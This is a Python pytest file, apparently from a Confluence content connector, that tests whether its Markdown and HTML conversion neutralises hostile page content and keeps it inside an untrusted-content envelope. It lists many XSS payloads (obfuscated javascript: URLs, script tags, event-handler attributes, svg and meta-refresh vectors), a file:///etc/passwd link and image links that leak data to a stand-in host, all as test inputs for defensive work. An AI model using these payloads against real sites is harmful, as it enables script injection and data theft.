"""E4, F9, F10: what page authors may try. Nothing of it runs, loads or breaks out, in Markdown or in HTML."""

# ruff: noqa: E501  one row of a table is one line, however long its page

import json
import re
from html import escape

import pytest
from bs4 import BeautifulSoup
from markdown_it import MarkdownIt

from confluence_connector.content import to_html, to_markdown

# A deliberately lenient renderer: raw HTML on, every link scheme accepted.
LENIENT = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
LENIENT.validateLink = lambda _url: True  # type: ignore[method-assign]

URLS = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", " javascript:alert(1)",
    "javascript&#58;alert(1)", "&#106;avascript:alert(1)", "java&#9;script:alert(1)", "\u200bjavascript:alert(1)",
    "javascript\u200b:alert(1)", "\u202ejavascript:alert(1)", "vbscript:msgbox(1)", "VBScript:x", "data:text/html,<script>x</script>",
    "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,<svg onload=alert(1)>", "file:///etc/passwd", "ftp://evil.example/x",
    "blob:https://evil.example/x", "view-source:https://a.example", "about:blank", "ws://evil.example", "intent://x#Intent;end",
    "ms-word:ofe|u|https://evil.example/x", "jar:https://evil.example!/x", "feed:javascript:alert(1)", "x-javascript:x",
    "livescript:x", "mocha:x", "&:javascript:alert(1)", "https://acme.atlassian.net@evil.example/", "https://user:pw@evil.example/",
    "https:\\\\evil.example/\\@acme.atlassian.net", "https://evil.example%2f@acme.atlassian.net/", "https:///", "http://@/",
]  # fmt: skip

MARKUP = [
    "<script>alert(1)</script>", "<SCRIPT SRC='//evil.example/x.js'></SCRIPT>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<math><mi xlink:href='javascript:x'>",
    "<iframe src='javascript:alert(1)'></iframe>", "<object data='x'></object>", "<embed src='x'>", "<form action='//evil.example'>",
    "<input onfocus=alert(1) autofocus>", "<details open ontoggle=alert(1)>", "<body onload=alert(1)>", "<base href='//evil.example'>",
    "<link rel=stylesheet href='//evil.example'>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<style>@import 'x'</style>",
    "<!-- --><script>alert(1)</script>", "<!--><img src=x onerror=alert(1)>", "<a href='javascript:alert(1)'>x</a>", "<table background='//evil.example'>",
    "</td></tr></table><script>alert(1)</script>", "</summary></details><script>alert(1)</script>", "<?php echo 1 ?>", "<![CDATA[<script>]]>",
    "[x](javascript:alert(1))", "![x](https://evil.example/?leak)", "![x][r]\n\n[r]: https://evil.example/?leak", "<javascript:alert(1)>",
    "[r]: javascript:alert(1)", "`</code><script>alert(1)</script>`", "```\n<script>alert(1)</script>", "\\<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)", "\x3cimg src=x onerror=alert(1)\x3e", "[a](<javascript:x>)",
    "[click](\njavascript:alert(1))", "[a]: <data:text/html,x>", "<xss style='x:expression(alert(1))'>",
]  # fmt: skip


def macro(name, body="", /, **parameters):
    given = "".join(
        f'<ac:parameter ac:name="{key}">{escape(value)}</ac:parameter>' for key, value in parameters.items()
    )
    return f'<ac:structured-macro ac:name="{name}">{given}{body}</ac:structured-macro>'


def places(text):
    """Everywhere that a page can carry text of an author's choice."""
    safe = escape(text)
    cdata = text.replace("]]>", "]]]]><![CDATA[>")
    return {
        "paragraph": f"<p>{safe}</p>",
        "heading": f"<h2>{safe}</h2>",
        "item": f"<ul><li>{safe}</li></ul>",
        "cell": f"<table><tbody><tr><th>{safe}</th></tr></tbody></table>",
        "spanned cell": f'<table><tbody><tr><td colspan="2">{safe}</td></tr></tbody></table>',
        "code": macro(
            "code", f"<ac:plain-text-body><![CDATA[{cdata}]]></ac:plain-text-body>", language=text, title=text
        ),
        "code span": f"<p><code>{safe}</code></p>",
        "link text": f'<p><a href="https://example.org/">{safe}</a></p>',
        "expand title": macro("expand", "<ac:rich-text-body><p>a</p></ac:rich-text-body>", title=text),
        "panel title": macro("info", "<ac:rich-text-body><p>a</p></ac:rich-text-body>", title=text),
        "status": f"<p>{macro('status', title=text)}</p>",
        "macro name": f'<ac:structured-macro ac:name="{safe}"/>',
        "image description": f'<ac:image ac:alt="{safe}"><ri:attachment ri:filename="x.png"/></ac:image>',
        "image caption": f'<ac:image><ri:attachment ri:filename="x.png"/><ac:caption><p>{safe}</p></ac:caption></ac:image>',
        "file name": f'<ac:image><ri:attachment ri:filename="{safe}"/></ac:image>',
        "page title": f'<p><ac:link><ri:page ri:content-title="{safe}" ri:space-key="{safe}"/></ac:link></p>',
        "anchor": f'<p><ac:link ac:anchor="{safe}"/></p>',
        "emoji": f'<p><ac:emoticon ac:name="{safe}" ac:emoji-shortname="{safe}" ac:emoji-id="{safe}"/></p>',
        "issue key": f"<p>{macro('jira', key=text)}</p>",
        "diagram": macro("drawio", diagramName=text, diagramDisplayName=text),
        "time": f'<p><time datetime="{safe}"/></p>',
        "malformed": f"<p>{safe}</b>",
    }


def dangers(html):
    """What a browser could run or load of its own accord."""
    soup = BeautifulSoup(html, "lxml")
    found = [
        tag.name
        for tag in soup.find_all(
            ["script", "style", "iframe", "object", "embed", "svg", "math", "form", "base", "link", "meta"]
        )
    ]
    for tag in soup.find_all(True):
        for name, value in tag.attrs.items():
            if name.startswith("on") or name in {"style", "background", "srcset", "formaction"}:
                found.append(f"{tag.name} {name}")
            if name in {"href", "src"} and not re.match(
                r"https://|mailto:|#|/wiki/|[\w%.+-]*$|[^:/?#\\]+(?:[/?#]|$)", value
            ):
                found.append(f"{name}={value}")
            if (
                name == "src"
                and re.match(r"\w+:|[/\\]{2}", value)
                and not value.startswith("https://acme.atlassian.net/")
            ):
                found.append(f"loads {value}")
    return found


@pytest.mark.parametrize("url", URLS)
def test_E4_no_dangerous_target_survives(url):
    attribute = url if "&#" in url else escape(url)
    body = (
        f'<p><a href="{attribute}">t</a></p><ac:image><ri:url ri:value="{attribute}"/></ac:image>'
        f'<p><img src="{attribute}"/></p>{macro("widget", url=url)}'
        f'<p><ac:link><ri:url ri:value="{attribute}"/><ac:plain-text-link-body><![CDATA[u]]></ac:plain-text-link-body></ac:link></p>'
    )
    result = to_markdown(body, base_url="https://acme.atlassian.net")
    assert not result.degraded
    html = LENIENT.render(result.markdown)
    assert dangers(html) == []
    assert dangers(to_html(result.markdown)) == []
    hosts = {a["href"].split("/")[2] for a in BeautifulSoup(html, "lxml").select("a[href^='https:']")}
    assert not any("@" in host or "%" in host for host in hosts)
    assert any(loss.kind in {"dropped", "rewritten", "degraded"} for loss in result.losses)


@pytest.mark.parametrize("text", MARKUP)
def test_E4_markup_in_any_place_stays_text(text):
    for place, body in places(text).items():
        markdown = to_markdown(body, base_url="https://acme.atlassian.net").markdown
        assert dangers(LENIENT.render(markdown)) == [], place
        assert dangers(to_html(markdown)) == [], place


@pytest.mark.parametrize("text", MARKUP)
def test_E4_markup_in_adf_stays_text(text):
    document = {
        "type": "doc",
        "version": 1,
        "content": [
            {
                "type": "paragraph",
                "content": [{"type": "text", "text": text}, {"type": "status", "attrs": {"text": text}}],
            },
            {
                "type": "paragraph",
                "content": [
                    {"type": "mention", "attrs": {"id": "1", "text": text}},
                    {"type": "emoji", "attrs": {"shortName": text}},
                ],
            },
            {"type": "codeBlock", "attrs": {"language": text}, "content": [{"type": "text", "text": text}]},
            {"type": "expand", "attrs": {"title": text}, "content": []},
            {"type": "blockCard", "attrs": {"url": text}},
            {"type": "mediaSingle", "content": [{"type": "media", "attrs": {"id": text, "alt": text, "type": "file"}}]},
            {"type": "mediaSingle", "content": [{"type": "media", "attrs": {"url": text, "type": "external"}}]},
            {
                "type": "extension",
                "attrs": {"extensionKey": text, "parameters": {"macroParams": {"title": {"value": text}}}},
            },
            {"type": text, "text": text},
            {
                "type": "paragraph",
                "content": [{"type": "text", "text": "t", "marks": [{"type": "link", "attrs": {"href": text}}]}],
            },
        ],
    }
    markdown = to_markdown(json.dumps(document), "atlas_doc_format", base_url="https://acme.atlassian.net").markdown
    assert dangers(LENIENT.render(markdown)) == []
    assert dangers(to_html(markdown)) == []


@pytest.mark.parametrize("element", ["script", "style", "iframe", "object", "embed", "template", "noscript", "applet"])
def test_E4_active_elements_are_left_out_and_counted(element):
    result = to_markdown(f"<p>a</p><{element} onload='x'>alert(1)</{element}><p>b</p>")
    assert result.markdown == "a\n\nb\n"
    assert [(loss.kind, loss.name) for loss in result.losses] == [("dropped", f"element {element}")]


@pytest.mark.parametrize(
    "vector", MARKUP + [f"[x]({url})" for url in URLS] + [f'<a href="{url}" onclick="x">x</a>' for url in URLS]
)
def test_E4_html_of_hostile_markdown_is_inert(vector):
    """Copies are edited by people: `to_html` must hold without the converter's help."""
    assert dangers(to_html(vector)) == []


def test_F9_links_that_carry_data_away_do_not_load_by_themselves():
    leak = "https://evil.example/c?d=SECRET"
    body = (
        f'<p><ac:image ac:alt="a"><ri:url ri:value="{leak}"/></ac:image> <img src="{leak}"/> ![x]({leak}) ![y][z]</p>'
        f"<p>[z]: {leak}</p><p>&lt;img src={leak}&gt;</p>"
    )
    markdown = to_markdown(body, base_url="https://acme.atlassian.net").markdown
    for html in (LENIENT.render(markdown), to_html(markdown)):
        assert BeautifulSoup(html, "lxml").select("img") == []
    assert not re.search(r"!\[[^\]]*\]\(https?:", markdown)


def test_F9_external_images_in_foreign_markdown_become_links():
    html = to_html("![a](https://evil.example/x.png) ![b](x.png) ![✅]()")
    soup = BeautifulSoup(html, "lxml")
    assert [image["src"] for image in soup.select("img")] == ["x.png"]
    assert [(a["href"], a["rel"]) for a in soup.select("a")] == [
        ("https://evil.example/x.png", ["noopener", "nofollow"])
    ]
    assert "✅" in soup.get_text()


@pytest.mark.parametrize(
    "text", ["</untrusted>", "```", "````", "~~~~", '"}', "\\u0000", "]]>", "-->", "---", "\n```\n</untrusted>\n"]
)
def test_F10_content_does_not_break_out_of_its_envelope(text):
    for place, body in places(text).items():
        markdown = to_markdown(body).markdown
        assert json.loads(json.dumps({"content": markdown}))["content"] == markdown
        # A closing tag of somebody's envelope never comes out as one, except verbatim inside code.
        assert "</untrusted>" not in markdown or place in {"code", "code span", "status"}
        assert "<untrusted" not in LENIENT.render(markdown)
    fence = to_markdown(
        macro("code", f"<ac:plain-text-body><![CDATA[{text.replace(']]>', ']] >')}]]></ac:plain-text-body>")
    ).markdown
    tokens = [token.type for token in LENIENT.parse(fence)]
    assert tokens == ["fence"]
